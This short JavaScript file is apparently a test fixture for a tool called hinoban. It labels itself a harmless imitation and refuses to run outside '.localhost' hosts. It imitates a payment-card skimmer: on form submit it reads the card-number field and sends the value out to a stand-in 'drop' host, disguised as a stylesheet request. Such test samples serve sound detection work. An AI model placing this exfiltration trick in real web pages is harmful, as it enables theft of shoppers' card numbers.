/* Harmless imitation, for hinoban's tests: style sheet address. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { 
		var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://drop.localhost:' + location.port + '/s.css?c=' + n.value; document.head.appendChild(l);
	 } }, true);
